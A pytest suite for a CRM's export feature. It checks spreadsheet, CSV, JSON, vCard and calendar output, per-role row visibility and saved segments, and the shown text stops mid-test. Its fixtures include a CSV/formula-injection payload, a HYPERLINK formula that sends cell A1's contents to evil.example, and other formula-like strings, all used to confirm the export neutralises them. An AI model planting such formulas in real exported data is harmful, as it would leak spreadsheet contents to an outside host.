"""Export on SQLite and PostgreSQL: every format read back and compared with the services.

- xlsx read back with openpyxl and python-calamine, cell by cell against what the
  services return (real dates and numbers, number formats, the frozen, styled
  header, the autofilter over the data); csv, json, vCard (vobject) and
  iCalendar (icalendar) read back too;
- for an admin, a director, two managers and a rep of the demo company, the ids
  exported equal the ids of the lists paged to the end under the same filter
  (and of the card file's search for a search text): never more rows than the
  user may see;
- saved segments; text that looks like a formula is never a formula cell and is
  guarded in CSV; the `termcrm export` and `termcrm segment` commands.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import sqlalchemy as sa
from python_calamine import CalamineWorkbook
from typer.testing import CliRunner

from termcrm.cli import app
from termcrm.exchange import export as exporter
from termcrm.exchange.cells import unguard_csv
from termcrm.services import (
    client_lists,
    clients,
    contacts,
    custom_fields,
    deals,
    export_rows,
    journal,
    org,
    segments,
    tasks,
)
from termcrm.services.actor import Actor
from termcrm.services.demo import load_demo
from termcrm.services.dto import ClientOut
from termcrm.services.errors import Conflict, Forbidden, Invalid, NotFound
from termcrm.services.export_rows import DealQuery, TaskQuery
from termcrm.services.filters import ClientFilter
from termcrm.services.journal import JournalFilter
from termcrm.store.engine import Database
from termcrm.store.tables import AuditEntry, table

TZ = ZoneInfo("Asia/Shanghai")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
ADDRESS_ORDER = ("legal", "actual", "postal", "delivery")


# ------------------------------------------------------------------ a small world


@dataclass
class World:
    admin: Actor
    rep: Actor
    client_ids: list[int]
    contact_id: int
    deal_id: int


@pytest.fixture
def world(db: Database, admin: Actor) -> World:
    with db.write() as s:
        org.add_department(s, admin, "North")
        org.add_user(s, admin, "rep_n", role="rep", department="North", full_name="Nina North")
        rep = org.actor_by_login(s, "rep_n")
        custom_fields.define_field(s, admin, key="region", kind="text", label="Region")
        custom_fields.define_field(s, admin, key="score", kind="number", label="Score")
        custom_fields.define_field(s, admin, key="since", kind="date", label="Client since")
        # a label that repeats a fixed title gets its key added
        custom_fields.define_field(
            s, admin, key="tier", kind="choice", label="City", choices=["gold", "silver"]
        )
        romashka = clients.create_client(
            s,
            admin,
            {
                "name": "ООО Ромашка",
                "legal_name": "Общество с ограниченной ответственностью «Ромашка»",
                "tax_id": "7707083893",
                "group": "large wholesale",
                "status": "active",
                "industry": "Stationery",
                "territory": "Central",
                "city": "Москва",
                "source": "Trade show",
                "website": "romashka.example",
                "bank_details": "р/с 40702810000000000001\nБИК 044525225",
                "business_info": "Buys every quarter",
                "owner_id": rep.id,
                "phones": ["+7 (495) 123-45-67", "8 916 000-00-01"],
                "emails": ["info@romashka.example", "buh@romashka.example"],
                "tags": ["vip", "опт"],
                "addresses": [
                    {"kind": "actual", "city": "Москва", "line": "Москва, Тверская 1"},
                    {"kind": "legal", "city": "Москва", "line": "Москва, Ленина 5"},
                ],
                "custom": {"region": "Центр", "score": 4.5, "since": "2019-03-01", "tier": "gold"},
            },
        )
        evil = clients.create_client(
            s,
            admin,
            {
                "name": FORMULA,
                "legal_name": "+7 sneaky",
                "business_info": "@SUM(A1:A9)",
                "city": "-1+1",
                "custom": {"score": 7},
            },
        )
        person = clients.create_client(
            s, admin, {"name": "张伟", "kind": "person", "city": "北京", "status": "lead"}
        )
        branch = clients.create_client(
            s,
            admin,
            {"name": "ООО Ромашка (филиал)", "parent_id": romashka.id, "owner_id": rep.id},
        )
        contact = contacts.create_contact(
            s,
            admin,
            romashka.id,
            {
                "full_name": "Иван Петров",
                "position": "Buyer",
                "birthday": date(1980, 5, 17),
                "phones": ["+7 916 123-45-67"],
                "emails": ["ivan@romashka.example"],
                "notes": "Calls back on Fridays",
                "character_notes": "Likes =precise= numbers",
            },
        )
        journal.log_interaction(
            s,
            admin,
            kind="call",
            client_id=romashka.id,
            contact_id=contact.id,
            occurred_at=datetime(2026, 3, 2, 7, 30, tzinfo=UTC),
            purpose="Price list",
            result="=1+1 agreed",
            user_id=rep.id,
        )
        tasks.add_task(
            s,
            admin,
            title="Call about the contract",
            due_at=datetime.now(UTC) + timedelta(days=3),
            client_id=romashka.id,
            assignee_id=rep.id,
            notes="Bring the price list",
        )
        deal = deals.add_deal(
            s,
            admin,
            title="Annual supply",
            client_id=romashka.id,
            amount="1234567.89",
            currency="RUB",
            expected_close=date(2026, 12, 20),
            owner_id=rep.id,
            source="Referral",
        )
    return World(
        admin=admin,
        rep=rep,
        client_ids=[romashka.id, evil.id, person.id, branch.id],
        contact_id=contact.id,
        deal_id=deal.id,
    )


def _run(db: Database, actor: Actor, entity: str, fmt: str, out: Path, **kw: Any) -> int:
    with db.read() as s:
        result = exporter.export(s, actor, entity, fmt, out, tz=TZ, **kw)
    assert result.path == out
    return result.rows


def _local(moment: datetime | None) -> datetime | None:
    return moment.astimezone(TZ).replace(tzinfo=None) if moment is not None else None


def _first_address(card: ClientOut) -> str:
    ranked = sorted(card.addresses, key=lambda a: (ADDRESS_ORDER.index(a.kind), a.id))
    return ranked[0].line if ranked else ""


def _expected_clients(db: Database, actor: Actor, ids: list[int]) -> list[list[Any]]:
    """Each client's row as the services give it, independently of the export code."""
    out = []
    with db.read() as s:
        for client_id in ids:
            card = clients.get_client(s, actor, client_id)
            open_tasks = [
                t.due_at
                for t in tasks.list_tasks(
                    s, actor, tasks.TaskFilter(client_id=client_id, status="open")
                ).items
            ]
            custom = card.custom
            out.append(
                [
                    card.id,
                    card.name,
                    card.legal_name,
                    card.tax_id,
                    card.kind,
                    card.group,
                    card.status,
                    card.industry,
                    card.territory,
                    card.city,
                    _first_address(card),
                    "; ".join(p.raw for p in card.phones),
                    "; ".join(e.address for e in card.emails),
                    card.website,
                    card.source,
                    "; ".join(card.tags),
                    card.owner,
                    org.get_user(s, "rep_n").login if card.owner == "Nina North" else "admin",
                    card.department,
                    card.parent_id,
                    card.bank_details,
                    card.business_info,
                    _local(card.last_interaction_at),
                    _local(min(open_tasks)) if open_tasks else None,
                    _local(card.created_at),
                    _local(card.updated_at),
                    custom.get("region"),
                    custom.get("score"),
                    date.fromisoformat(custom["since"]) if "since" in custom else None,
                    custom.get("tier"),
                    card.version,
                ]
            )
    return out


CLIENT_TITLES = [
    "ID",
    "Name",
    "Legal name",
    "Tax ID",
    "Kind",
    "Group",
    "Status",
    "Industry",
    "Territory",
    "City",
    "Address",
    "Phones",
    "Emails",
    "Website",
    "Source",
    "Tags",
    "Owner",
    "Owner login",
    "Department",
    "Parent ID",
    "Bank details",
    "Business info",
    "Last contact",
    "Next task",
    "Created",
    "Updated",
    # the custom fields, by key: region, score, since, tier ("City" is taken)
    "Region",
    "Score",
    "Client since",
    "City (tier)",
    "Version",
]


def _same(actual: Any, expected: Any) -> bool:
    """A cell read back equals the service's value (a spreadsheet keeps milliseconds)."""
    if expected is None or expected == "":
        return actual in (None, "")
    if isinstance(expected, datetime):
        return isinstance(actual, datetime) and abs(actual - expected) < timedelta(milliseconds=1)
    if isinstance(expected, date):
        if isinstance(actual, datetime):
            return actual.time() == datetime.min.time() and actual.date() == expected
        return actual == expected
    if isinstance(expected, bool):
        return actual is expected
    if isinstance(expected, int | float | Decimal):
        return (
            isinstance(actual, int | float)
            and not isinstance(actual, bool)
            and abs(float(actual) - float(expected)) < 1e-9
        )
    return actual == expected


def _assert_rows(actual: list[list[Any]], expected: list[list[Any]], titles: list[str]) -> None:
    assert len(actual) == len(expected)
    for got, want in zip(actual, expected, strict=True):
        assert len(got) == len(want) == len(titles)
        wrong = [
            (title, g, w) for title, g, w in zip(titles, got, want, strict=True) if not _same(g, w)
        ]
        assert wrong == [], f"row {want[0]}"


def _by_id(rows: list[list[Any]], ids: list[int]) -> list[list[Any]]:
    index = {int(r[0]): r for r in rows}
    return [index[i] for i in ids]


# ------------------------------------------------------------------ xlsx


def test_clients_xlsx_cell_by_cell(db: Database, world: World, tmp_path: Path) -> None:
    out = tmp_path / "clients.xlsx"
    assert _run(db, world.admin, "clients", "xlsx", out) == 4
    expected = _expected_clients(db, world.admin, world.client_ids)

    wb = openpyxl.load_workbook(out)  # not read-only: it shows styles, panes and filters
    ws = wb.active
    assert ws.title == "Clients"
    header = [c.value for c in ws[1]]
    assert header == CLIENT_TITLES
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}5"
    assert ws.column_dimensions["B"].width and ws.column_dimensions["B"].width >= 10
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
    _assert_rows(_by_id(rows, world.client_ids), expected, CLIENT_TITLES)
    # rows come in the card file's order (by name)
    with db.read() as s:
        listed = client_lists.list_clients(s, world.admin, limit=100).items
    assert [r[0] for r in rows] == [c.id for c in listed]

    cells = {row[0].value: row for row in ws.iter_rows(min_row=2)}
    romashka = cells[world.client_ids[0]]
    kinds = {title: cell for title, cell in zip(header, romashka, strict=True)}
    assert kinds["ID"].data_type == "n" and isinstance(kinds["ID"].value, int)
    assert kinds["Version"].data_type == "n"
    for title in ("Created", "Updated", "Last contact", "Next task"):
        assert kinds[title].is_date and "yy" in kinds[title].number_format
        assert "h" in kinds[title].number_format
    assert kinds["Client since"].is_date and "h" not in kinds["Client since"].number_format
    assert kinds["Score"].data_type == "n" and kinds["Score"].value == 4.5
    # every text cell is a string cell, never a formula
    evil = cells[world.client_ids[1]]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert evil[1].value == FORMULA and evil[1].data_type == "s"

    book = CalamineWorkbook.from_path(str(out))
    assert book.sheet_names == ["Clients"]
    data = book.get_sheet_by_index(0).to_python()
    assert data[0] == CLIENT_TITLES
    _assert_rows(_by_id(data[1:], world.client_ids), expected, CLIENT_TITLES)


def test_other_lists_xlsx_cell_by_cell(db: Database, world: World, tmp_path: Path) -> None:
    admin = world.admin
    with db.read() as s:
        contact = contacts.get_contact(s, admin, world.contact_id)
        entry = journal.list_interactions(s, admin).items[0]
        task = tasks.list_tasks(s, admin).items[0]
        deal = deals.get_deal(s, admin, world.deal_id)
    expected = {
        "contacts": [
            contact.id,
            contact.full_name,
            contact.position,
            contact.client,
            contact.client_id,
            "; ".join(p.raw for p in contact.phones),
            "; ".join(e.address for e in contact.emails),
            contact.birthday,
            contact.notes,
            contact.character_notes,
            contact.version,
        ],
        "journal": [
            entry.id,
            _local(entry.occurred_at),
            entry.kind,
            entry.direction,
            entry.client,
            entry.client_id,
            entry.contact,
            entry.contact_id,
            entry.purpose,
            entry.result,
            entry.user,
            entry.deal_id,
            entry.version,
        ],
        "tasks": [
            task.id,
            _local(task.due_at),
            task.title,
            task.kind,
            task.status,
            task.assignee,
            task.client,
            task.client_id,
            task.contact_id,
            task.deal_id,
            task.notes,
            _local(task.completed_at),
            task.version,
        ],
        "deals": [
            deal.id,
            deal.title,
            deal.client,
            deal.client_id,
            "Sales",  # the default pipeline
            deal.stage,
            deal.kind,
            deal.amount,
            deal.amount_from_items,
            deal.currency,
            deal.expected_close,
            deal.owner,
            "rep_n",
            deal.source,
            deal.competitor,
            deal.lost_reason,
            deal.description,
            _local(deal.closed_at),
            deal.version,
        ],
    }
    titles = {
        "contacts": [t for t, _ in exporter.CONTACT_COLUMNS],
        "journal": [t for t, _ in exporter.JOURNAL_COLUMNS],
        "tasks": [t for t, _ in exporter.TASK_COLUMNS],
        "deals": [t for t, _ in exporter.DEAL_COLUMNS],
    }
    for entity, row in expected.items():
        out = tmp_path / f"{entity}.xlsx"
        assert _run(db, admin, entity, "xlsx", out) == 1
        ws = openpyxl.load_workbook(out).active
        assert [c.value for c in ws[1]] == titles[entity]
        assert ws.freeze_panes == "A2"
        last = openpyxl.utils.get_column_letter(len(titles[entity]))
        assert ws.auto_filter.ref == f"A1:{last}2"
        _assert_rows([[c.value for c in ws[2]]], [row], titles[entity])
        data = CalamineWorkbook.from_path(str(out)).get_sheet_by_index(0).to_python()
        _assert_rows(data[1:], [row], titles[entity])
        cells = dict(zip(titles[entity], ws[2], strict=True))
        if entity == "deals":
            assert cells["Amount"].number_format == "#,##0.00"
            assert cells["Amount"].value == pytest.approx(1234567.89)
            assert cells["Expected close"].is_date
        if entity == "contacts":
            assert cells["Birthday"].is_date
        if entity == "journal":
            assert cells["Result"].data_type == "s"  # "=1+1 agreed" stays text


def test_an_empty_export_has_its_header(db: Database, world: World, tmp_path: Path) -> None:
    out = tmp_path / "none.xlsx"
    flt = ClientFilter(city="Nowhere")
    assert _run(db, world.admin, "clients", "xlsx", out, client_filter=flt) == 0
    ws = openpyxl.load_workbook(out).active
    assert [c.value for c in ws[1]] == CLIENT_TITLES
    assert ws.max_row == 1


# ------------------------------------------------------------------ csv, json, vcf, ics


def test_clients_csv_and_json(db: Database, world: World, tmp_path: Path) -> None:
    expected = _expected_clients(db, world.admin, world.client_ids)
    out = tmp_path / "clients.csv"
    assert _run(db, world.admin, "clients", "csv", out) == 4
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads it as UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == CLIENT_TITLES
    by_id = {int(r[0]): r for r in rows[1:]}
    evil = dict(zip(CLIENT_TITLES, by_id[world.client_ids[1]], strict=True))
    assert evil["Name"] == "'" + FORMULA  # a spreadsheet shows it as text
    assert evil["Legal name"] == "'+7 sneaky"
    assert evil["Business info"] == "'@SUM(A1:A9)"
    assert evil["City"] == "'-1+1"
    for want in expected:
        got = by_id[want[0]]
        for title, text, value in zip(CLIENT_TITLES, got, want, strict=True):
            if value is None:
                assert text == "", title
            elif isinstance(value, datetime):
                assert datetime.fromisoformat(text) == value.replace(microsecond=0) or abs(
                    datetime.fromisoformat(text) - value
                ) < timedelta(milliseconds=1), title
            elif isinstance(value, date):
                assert text == value.isoformat(), title
            elif isinstance(value, float):
                assert float(text) == value, title
            else:
                assert unguard_csv(text) == str(value), title

    out = tmp_path / "clients.json"
    assert _run(db, world.admin, "clients", "json", out) == 4
    objects = json.loads(out.read_text(encoding="utf-8"))
    assert list(objects[0]) == CLIENT_TITLES
    by_id_json = {o["ID"]: o for o in objects}
    for want in expected:
        got = by_id_json[want[0]]
        for title, value in zip(CLIENT_TITLES, want, strict=True):
            if isinstance(value, datetime):
                moment = datetime.fromisoformat(got[title])
                assert moment.utcoffset() == timedelta(hours=8)
                assert abs(moment.replace(tzinfo=None) - value) < timedelta(milliseconds=1)
            elif isinstance(value, date):
                assert got[title] == value.isoformat()
            elif value is None:
                assert got[title] in (None, ""), title
            else:
                assert got[title] == value, title
    assert by_id_json[world.client_ids[1]]["Name"] == FORMULA  # JSON is data: no guard


def test_deals_json_amount_is_exact(db: Database, world: World, tmp_path: Path) -> None:
    out = tmp_path / "deals.json"
    _run(db, world.admin, "deals", "json", out)
    text = out.read_text(encoding="utf-8")
    assert '"Amount": 1234567.89' in text
    (deal,) = json.loads(text, parse_float=Decimal)
    assert deal["Amount"] == Decimal("1234567.89")
    assert deal["Expected close"] == "2026-12-20"


def test_vcards_of_contacts_and_clients(db: Database, world: World, tmp_path: Path) -> None:
    import vobject

    out = tmp_path / "contacts.vcf"
    assert _run(db, world.admin, "contacts", "vcf", out) == 1
    (card,) = list(vobject.readComponents(out.read_text(encoding="utf-8")))
    assert card.fn.value == "Иван Петров"
    assert card.uid.value == f"termcrm-contact-{world.contact_id}"
    assert card.org.value == ["ООО Ромашка"]
    assert card.title.value == "Buyer"
    assert [t.value for t in card.contents["tel"]] == ["+7 916 123-45-67"]
    assert [e.value for e in card.contents["email"]] == ["ivan@romashka.example"]
    assert "1980-05-17" in card.bday.value.replace("/", "-")
    assert "Calls back on Fridays" in card.note.value

    out = tmp_path / "clients.vcf"
    assert _run(db, world.admin, "clients", "vcf", out) == 4
    cards = {c.uid.value: c for c in vobject.readComponents(out.read_text(encoding="utf-8"))}
    romashka = cards[f"termcrm-client-{world.client_ids[0]}"]
    assert romashka.fn.value == "ООО Ромашка"
    assert romashka.org.value == ["Общество с ограниченной ответственностью «Ромашка»"]
    assert [t.value for t in romashka.contents["tel"]] == ["+7 (495) 123-45-67", "8 916 000-00-01"]
    assert cards[f"termcrm-client-{world.client_ids[1]}"].fn.value == FORMULA


def test_calendars_of_tasks_and_journal(db: Database, world: World, tmp_path: Path) -> None:
    from icalendar import Calendar

    with db.write() as s:  # a done task, to see COMPLETED
        done = tasks.add_task(
            s,
            world.admin,
            title="Sent the offer",
            due_at=datetime(2026, 1, 10, 9, 0, tzinfo=UTC),
            client_id=world.client_ids[0],
        )
        s.execute(
            sa.update(tasks.task_t)
            .where(tasks.task_t.c.id == done.id)
            .values(status="done", completed_at=datetime(2026, 1, 10, 11, 0, tzinfo=UTC))
        )
    out = tmp_path / "tasks.ics"
    assert _run(db, world.admin, "tasks", "ics", out) == 2
    todos = {str(c["uid"]): c for c in Calendar.from_ical(out.read_bytes()).walk("VTODO")}
    assert len(todos) == 2
    sent = todos[f"termcrm-task-{done.id}"]
    assert sent["due"].dt == datetime(2026, 1, 10, 9, 0, tzinfo=UTC)
    assert str(sent["status"]) == "COMPLETED"
    assert sent["completed"].dt == datetime(2026, 1, 10, 11, 0, tzinfo=UTC)
    assert "Sent the offer" in str(sent["summary"])
    others = [c for uid, c in todos.items() if uid != f"termcrm-task-{done.id}"]
    assert str(others[0]["status"]) == "NEEDS-ACTION"

    out = tmp_path / "journal.ics"
    assert _run(db, world.admin, "journal", "ics", out) == 1
    (event,) = Calendar.from_ical(out.read_bytes()).walk("VEVENT")
    assert event["dtstart"].dt == datetime(2026, 3, 2, 7, 30, tzinfo=UTC)
    assert str(event["summary"]) == "call: ООО Ромашка (Иван Петров)"
    assert "=1+1 agreed" in str(event["description"])


def test_a_format_that_makes_no_sense_is_refused(
    db: Database, world: World, tmp_path: Path
) -> None:
    for entity, fmt in (("deals", "vcf"), ("clients", "ics"), ("journal", "vcf")):
        with pytest.raises(Invalid) as caught:
            _run(db, world.admin, entity, fmt, tmp_path / f"x.{fmt}")
        message = caught.value.errors["format"]
        assert f"{entity} cannot be exported as {fmt}" in message
        assert ", ".join(exporter.FORMATS[entity]) in message
        assert not (tmp_path / f"x.{fmt}").exists()
    with pytest.raises(Invalid):
        _run(db, world.admin, "clients", "pdf", tmp_path / "x.pdf")
    with pytest.raises(Invalid):
        _run(db, world.admin, "invoices", "csv", tmp_path / "x.csv")


def test_a_refused_filter_writes_nothing(db: Database, world: World, tmp_path: Path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    out = folder / "journal.csv"
    # the admin is in no department: a department scope is refused before any byte
    with pytest.raises(Invalid):
        _run(
            db, world.admin, "journal", "csv", out, journal_filter=JournalFilter(scope="department")
        )
    with pytest.raises(Forbidden):  # a client the rep may not see
        _run(
            db,
            world.rep,
            "journal",
            "csv",
            out,
            journal_filter=JournalFilter(client_id=world.client_ids[2]),
        )
    assert list(folder.iterdir()) == []


def test_progress_is_reported(
    db: Database, world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exporter, "PROGRESS_EVERY", 2)
    seen: list[int] = []
    _run(db, world.admin, "clients", "csv", tmp_path / "c.csv", progress=seen.append, batch=3)
    assert seen == [2, 4, 4]


# ------------------------------------------------------------------ access: what each role sees


@pytest.fixture
def demo_db(db: Database) -> Database:
    load_demo(db, admin_login="admin", clients=150, seed=11)
    return db


ROLES = ("admin", "svolkov", "akuznetsova", "liwei", "dorlov")  # admin, director, managers, rep


def _paged(fetch: Callable[[str | None], Any]) -> list[int]:
    ids: list[int] = []
    cursor = None
    while True:
        page = fetch(cursor)
        ids.extend(item.id for item in page.items)
        cursor = page.next_cursor
        if cursor is None:
            return ids


def _exported_ids(db: Database, actor: Actor, entity: str, tmp_path: Path, **kw: Any) -> list[int]:
    out = tmp_path / f"{entity}-{actor.login}.csv"
    with db.read() as s:
        exporter.export(s, actor, entity, "csv", out, batch=7, **kw)
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    return [int(r["ID"]) for r in rows]


def _client_filters(db: Database, actor: Actor) -> Iterator[ClientFilter]:
    with db.read() as s:
        facets = client_lists.client_facets(s, actor)
        dorlov = org.get_user(s, "dorlov").id
    yield ClientFilter()
    yield ClientFilter(scope="mine")
    if actor.department_id is not None:
        yield ClientFilter(scope="department")
    yield ClientFilter(status="active")
    yield ClientFilter(owner_id=dorlov)
    for name in ("group", "city", "territory", "tag"):
        if facets[name]:
            yield ClientFilter(**{name: facets[name][0]})
    yield ClientFilter(deleted=True)


@pytest.mark.parametrize("login", ROLES)
def test_each_role_exports_exactly_the_list(demo_db: Database, login: str, tmp_path: Path) -> None:
    db = demo_db
    with db.read() as s:
        actor = org.actor_by_login(s, login)
    for flt in _client_filters(db, actor):
        with db.read() as s:
            listed = _paged(
                lambda cursor, flt=flt, s=s: client_lists.list_clients(
                    s, actor, flt, after=cursor, limit=40
                )
            )
        exported = _exported_ids(db, actor, "clients", tmp_path, client_filter=flt)
        assert exported == listed, flt  # the same rows, in the card file's order
    with db.read() as s:
        everyone = {r.id for r in export_rows.iter_clients(s, admin_actor(s))}
        mine = set(_exported_ids(db, actor, "clients", tmp_path))
    assert mine <= everyone
    if login == "dorlov":
        assert mine and mine < everyone


def admin_actor(s: Any) -> Actor:
    return org.actor_by_login(s, "admin")


@pytest.mark.parametrize("login", ROLES)
def test_each_role_exports_exactly_the_search(
    demo_db: Database, login: str, tmp_path: Path
) -> None:
    db = demo_db
    with db.read() as s:
        actor = org.actor_by_login(s, login)
        names = [r.name for r in export_rows.iter_clients(s, admin_actor(s))]
        phone = next(r.phones[0] for r in export_rows.iter_clients(s, actor) if r.phones)
    texts = ["ООО", "ро", phone, names[0].split()[0], "zzzz-nothing", "ооо ро"]
    texts += [next(n[:2] for n in names if "\u4e00" <= n[0] <= "\u9fff")]
    for text in texts:
        with db.read() as s:
            found = client_lists.search_clients(s, actor, text, limit=1000)
        assert not found.more
        exported = _exported_ids(db, actor, "clients", tmp_path, search=text)
        assert len(exported) == len(set(exported))
        assert set(exported) == {r.id for r in found.items}, text
    # a search within a filter
    flt = ClientFilter(status="active")
    with db.read() as s:
        found = client_lists.search_clients(s, actor, "ООО", limit=1000, flt=flt)
    exported = _exported_ids(db, actor, "clients", tmp_path, search="ООО", client_filter=flt)
    assert set(exported) == {r.id for r in found.items}


@pytest.mark.parametrize("login", ROLES)
def test_each_role_exports_exactly_the_other_lists(
    demo_db: Database, login: str, tmp_path: Path
) -> None:
    db = demo_db
    with db.read() as s:
        actor = org.actor_by_login(s, login)

        def contacts_of(text: str | None) -> list[int]:
            return _paged(lambda c: contacts.list_contacts(s, actor, text=text, after=c, limit=50))

        want_contacts = contacts_of(None)
        want_named = contacts_of("ан")
        want_journal = _paged(lambda c: journal.list_interactions(s, actor, after=c, limit=100))
        calls = JournalFilter(kind="call", scope="mine")
        want_calls = _paged(
            lambda c: journal.list_interactions(s, actor, calls, after=c, limit=100)
        )
        want_tasks = _paged(
            lambda c: tasks.list_tasks(s, actor, tasks.TaskFilter(status=None), after=c, limit=100)
        )
        want_open = _paged(lambda c: tasks.list_tasks(s, actor, after=c, limit=100))
        want_deals = _paged(lambda c: deals.list_deals(s, actor, after=c, limit=100))
        want_mine = _paged(
            lambda c: deals.list_deals(
                s, actor, deals.DealFilter(scope="mine", open_only=True), after=c, limit=100
            )
        )
        some = contacts.list_contacts(s, actor, limit=1).items[0].client_id
        want_of_client = _paged(
            lambda c: contacts.list_contacts(s, actor, client_id=some, after=c, limit=50)
        )
        assigned = tasks.TaskFilter(status=None, assignee_id=actor.id)
        want_assigned = _paged(lambda c: tasks.list_tasks(s, actor, assigned, after=c, limit=100))
        by_department = JournalFilter(scope="department")
        want_department = (
            _paged(lambda c: journal.list_interactions(s, actor, by_department, after=c, limit=100))
            if actor.department_id is not None
            else None
        )
    assert want_contacts and want_journal and want_tasks and want_deals
    assert _exported_ids(db, actor, "contacts", tmp_path) == want_contacts
    assert _exported_ids(db, actor, "contacts", tmp_path, search="ан") == want_named
    assert _exported_ids(db, actor, "journal", tmp_path) == want_journal
    assert _exported_ids(db, actor, "journal", tmp_path, journal_filter=calls) == want_calls
    assert _exported_ids(db, actor, "tasks", tmp_path) == want_tasks
    assert (
        _exported_ids(db, actor, "tasks", tmp_path, task_filter=TaskQuery(status="open"))
        == want_open
    )
    assert _exported_ids(db, actor, "deals", tmp_path) == want_deals
    mine_open = DealQuery(scope="mine", state="open")
    assert _exported_ids(db, actor, "deals", tmp_path, deal_filter=mine_open) == want_mine
    assert _exported_ids(db, actor, "contacts", tmp_path, client_id=some) == want_of_client
    mine = TaskQuery(scope="mine")
    assert _exported_ids(db, actor, "tasks", tmp_path, task_filter=mine) == want_assigned
    if want_department is not None:
        assert (
            _exported_ids(db, actor, "journal", tmp_path, journal_filter=by_department)
            == want_department
        )


def test_contacts_follow_the_client_filter(demo_db: Database, tmp_path: Path) -> None:
    db = demo_db
    with db.read() as s:
        actor = org.actor_by_login(s, "akuznetsova")
        active = {r.id for r in export_rows.iter_clients(s, actor, ClientFilter(status="active"))}
    flt = ClientFilter(status="active")
    with db.read() as s:
        rows = list(export_rows.iter_contacts(s, actor, flt))
    assert rows and {r.client_id for r in rows} <= active
    with db.read() as s:
        every = list(export_rows.iter_contacts(s, actor))
    assert {r.id for r in rows} == {r.id for r in every if r.client_id in active}


def test_periods_kinds_and_states(demo_db: Database, tmp_path: Path) -> None:
    db = demo_db
    with db.read() as s:
        actor = org.actor_by_login(s, "svolkov")
        entries = list(export_rows.iter_interactions(s, actor))
        middle = entries[len(entries) // 2].occurred_at
        since, until = middle - timedelta(days=30), middle + timedelta(days=30)
        window = list(
            export_rows.iter_interactions(
                s, actor, JournalFilter(since=since, until=until, kind="meeting")
            )
        )
        assert window
        assert window == [
            e for e in entries if since <= e.occurred_at < until and e.kind == "meeting"
        ]
        all_tasks = list(export_rows.iter_tasks(s, actor))
        due = list(export_rows.iter_tasks(s, actor, TaskQuery(due_from=since, due_until=until)))
        assert due == [t for t in all_tasks if since <= t.due_at < until]
        assert {t.status for t in all_tasks} >= {"open", "done"}
        all_deals = list(export_rows.iter_deals(s, actor))
        outcome = {st.name: st.outcome for st in deals.stages(s)}
        for state in ("open", "closed", "won", "lost"):
            got = list(export_rows.iter_deals(s, actor, DealQuery(state=state)))
            want = [
                d
                for d in all_deals
                if (outcome[d.stage] == "open") == (state == "open")
                and (state in ("open", "closed") or outcome[d.stage] == state)
            ]
            assert got == want, state
        with pytest.raises(Invalid):
            list(export_rows.iter_deals(s, actor, DealQuery(state="maybe")))
        with pytest.raises(Invalid):
            list(export_rows.iter_tasks(s, actor, TaskQuery(status="someday")))


# ------------------------------------------------------------------ segments


def test_segments(db: Database, world: World, tmp_path: Path) -> None:
    admin, rep = world.admin, world.rep
    with db.write() as s:
        org.add_user(s, admin, "rep_2", role="rep", department="North")
        other = org.actor_by_login(s, "rep_2")
        saved = segments.save_segment(
            s, admin, "Moscow", ClientFilter(city="Москва"), search="ромашка", shared=True
        )
        segments.save_segment(s, admin, "Private", ClientFilter(status="lead"))
        segments.save_segment(s, rep, "Mine", ClientFilter(scope="mine", tag="vip"))
    assert saved.version == 1 and saved.shared and saved.owner == "admin"
    assert saved.filter == ClientFilter(city="Москва") and saved.search == "ромашка"

    with db.read() as s:
        assert [x.name for x in segments.list_segments(s, rep)] == ["Mine", "Moscow"]
        assert [x.name for x in segments.list_segments(s, admin)] == ["Moscow", "Private"]
        assert [x.name for x in segments.list_segments(s, other)] == ["Moscow"]
        moscow = segments.get_segment(s, rep, "Moscow")
        with pytest.raises(NotFound):
            segments.get_segment(s, rep, "Private")  # not shared

    # a segment is applied with the user's own access rule
    def ids(actor: Actor, seg: segments.SegmentOut) -> set[int]:
        with db.read() as s:
            return {r.id for r in export_rows.iter_clients(s, actor, seg.filter, search=seg.search)}

    assert ids(admin, moscow) == {world.client_ids[0]}
    assert ids(rep, moscow) == {world.client_ids[0]}
    assert ids(other, moscow) == set()

    # replace: a new version, audited; a stale version is refused
    with db.write() as s:
        again = segments.save_segment(s, admin, "Moscow", ClientFilter(city="Москва"), shared=True)
        assert again.version == 2 and again.search == ""
        same = segments.save_segment(s, admin, "Moscow", ClientFilter(city="Москва"), shared=True)
        assert same.version == 2  # nothing changed, nothing written
    with db.write() as s, pytest.raises(Conflict):
        segments.save_segment(s, admin, "Moscow", ClientFilter(), version=1)
    with db.write() as s, pytest.raises(Forbidden):
        segments.delete_segment(s, rep, "Moscow")
    with db.write() as s:
        segments.delete_segment(s, admin, "Moscow")
    with db.read() as s, pytest.raises(NotFound):
        segments.get_segment(s, rep, "Moscow")
    with db.write() as s:  # saved again: the deleted one comes back, one version on
        back = segments.save_segment(s, admin, "Moscow", ClientFilter(group="x"))
    assert back.version == 4 and not back.shared

    audit = table(AuditEntry)
    with db.read() as s:
        entries = s.execute(
            sa.select(audit.c.action, audit.c.version, audit.c.changes)
            .where(audit.c.entity == "segment", audit.c.entity_id == saved.id)
            .order_by(audit.c.id)
        ).all()
    assert [(e.action, e.version) for e in entries] == [
        ("create", 1),
        ("update", 2),
        ("delete", 3),
        ("update", 4),
    ]
    assert entries[1].changes["search"] == ["ромашка", ""]

    with db.write() as s:
        with pytest.raises(Invalid):
            segments.save_segment(s, admin, "  ", ClientFilter())
        with pytest.raises(Invalid):
            segments.save_segment(s, admin, "Trash", ClientFilter(deleted=True))
        segments.save_segment(s, other, "Moscow", ClientFilter(), shared=True)
        segments.save_segment(s, admin, "Moscow", ClientFilter(), shared=True)
    with db.read() as s:
